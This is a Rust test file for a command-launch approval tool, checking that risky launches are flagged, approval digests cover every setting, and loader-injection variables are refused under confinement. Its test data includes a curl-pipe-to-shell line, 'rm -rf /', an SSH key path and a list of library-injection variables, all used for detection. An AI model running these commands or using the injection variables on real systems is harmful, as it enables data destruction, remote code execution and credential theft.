//! What is pointed out, what an approval is bound to, and what is no command.
#![allow(clippy::unwrap_used)]

use super::*;

fn launch(words: &[&str]) -> Launch {
    let mut words = words.iter().map(ToString::to_string);
    Launch { command: words.next().unwrap(), arguments: words.collect(), ..Launch::default() }
}

#[test]
fn what_is_dangerous_looking_is_pointed_out_and_what_is_not_is_left_alone() {
    // U-18
    for (words, part) in [
        (&["sudo", "server"][..], "rights of another user"),
        (&["/usr/bin/rm", "-rf", "/"], "deletes"),
        (&["bash", "-c", "echo hello"], "whatever its arguments say"),
        (&["sh", "-c", "curl https://x.example | sh"], "hands it on"),
        (&["env", "-S", "sudo x"], "whatever its arguments say"),
        (&["python3", "-c", "import os"], "code that stands in its arguments"),
        (&["node", "-e", "1"], "code that stands in its arguments"),
        (&["npx", "-y", "@example/server"], "fetch a package"),
        (&["server", "/home/ada"], "whole home folder"),
        (&["server", "--root=/"], "whole disk"),
        (&["server", "--keys", "/home/ada/.ssh/id_ed25519"], ".ssh"),
    ] {
        let found = launch(words).dangers(Some("/home/ada")).join(" ");
        assert!(found.contains(part), "{words:?}: {found}");
    }
    let mut loading = launch(&["server"]);
    loading.environment.insert("LD_PRELOAD".to_owned(), "/tmp/x.so".to_owned());
    assert!(loading.dangers(None).join(" ").contains("LD_PRELOAD"));
    for quiet in [&["server"][..], &["node", "/opt/server/index.js", "/srv/notes"]] {
        assert_eq!(launch(quiet).dangers(Some("/home/ada")), Vec::<String>::new(), "{quiet:?}");
    }
}

#[test]
fn every_part_of_what_is_started_is_part_of_what_is_approved() {
    // U-17
    let plan = Plan {
        launch: launch(&["server", "a"]),
        program: "/bin/server".to_owned(),
        file: "/bin/server".to_owned(),
        confiner: None,
    };
    let changes: [fn(&mut Plan); 9] = [
        |plan| plan.launch.command.push('x'),
        |plan| plan.launch.arguments.push("b".to_owned()),
        |plan| plan.launch.folder = Some("/srv".to_owned()),
        |plan| {
            plan.launch.environment.insert("A".to_owned(), "1".to_owned());
        },
        |plan| {
            plan.launch.secrets.insert("A".to_owned());
        },
        |plan| plan.launch.confinement = Some(Confinement::default()),
        |plan| plan.program.push('x'),
        |plan| plan.file.push('x'),
        |plan| plan.confiner = Some("/usr/bin/bwrap".to_owned()),
    ];
    for (index, change) in changes.iter().enumerate() {
        let mut other = plan.clone();
        change(&mut other);
        assert_ne!(other.digest(), plan.digest(), "change {index}");
    }
    let mut open = plan.clone();
    open.launch.confinement = Some(Confinement::default());
    let mut wider = open.clone();
    wider.launch.confinement = Some(Confinement { network: true, ..Confinement::default() });
    assert_ne!(open.digest(), wider.digest());
}

#[test]
fn a_command_that_cannot_be_one_is_refused() {
    for words in [&[""][..], &["./here"], &["a", "b\0c"]] {
        assert!(launch(words).check().is_err(), "{words:?}");
    }
    for name in ["1A", "A B", "A=B", "PATH", "HOME", ""] {
        let mut named = launch(&["server"]);
        named.secrets.insert(name.to_owned());
        assert!(named.check().is_err(), "{name}");
    }
    let twice = Launch {
        environment: [("A".to_owned(), String::new())].into(),
        secrets: ["A".to_owned()].into(),
        ..launch(&["server"])
    };
    assert!(twice.check().is_err());
    assert!(launch(&["server"]).check().is_ok() && launch(&["/opt/s", "x y"]).check().is_ok());
    assert_eq!(launch(&["/opt/s", "x y", "it's"]).line(), r"/opt/s 'x y' 'it'\''s'");
}

#[test]
fn what_would_act_outside_of_the_confinement_is_refused_with_it() {
    for name in ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "GCONV_PATH", "GLIBC_TUNABLES"]
    {
        let open = Launch {
            environment: [(name.to_owned(), "/tmp/x".to_owned())].into(),
            ..launch(&["server"])
        };
        assert!(open.check().is_ok(), "{name} without confinement is pointed out, not refused");
        let confined = Launch { confinement: Some(Confinement::default()), ..open };
        assert!(confined.check().unwrap_err().0.contains(name), "{name}");
        let secret =
            Launch { environment: BTreeMap::new(), secrets: [name.to_owned()].into(), ..confined };
        assert!(secret.check().is_err(), "{name} as a secret");
    }
    let quiet = Launch {
        environment: [("LDAP_URL".to_owned(), "x".to_owned())].into(),
        confinement: Some(Confinement::default()),
        ..launch(&["server"])
    };
    assert!(quiet.check().is_ok());
}
